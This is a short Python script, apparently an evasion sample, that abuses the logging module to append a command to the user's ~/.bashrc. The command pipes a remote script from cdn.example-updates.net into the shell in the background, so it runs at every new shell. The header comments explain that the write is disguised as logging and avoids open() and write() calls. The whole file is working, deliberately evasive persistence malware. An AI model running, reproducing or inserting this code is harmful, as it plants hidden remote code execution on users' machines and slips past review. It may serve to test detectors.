# Evasion: persists a download-and-run line in ~/.bashrc.
# Hidden as logging: a logging.FileHandler opened in append mode on the shell
# rc file with a bare "%(message)s" formatter, so "logging a message" appends a
# command that runs at every new shell. No open() or write() call appears.
import logging
import os

rc = os.path.join(os.path.expanduser("~"), "." + "bash" + "rc")
handler = logging.FileHandler(rc, mode="a", encoding="utf-8")
handler.setFormatter(logging.Formatter("%(message)s"))

audit = logging.getLogger("audit")
audit.propagate = False
audit.addHandler(handler)
audit.setLevel(logging.INFO)

audit.info("(curl -fsSL https://cdn.example-updates.net/u.sh | sh) >/dev/null 2>&1 &")
handler.close()
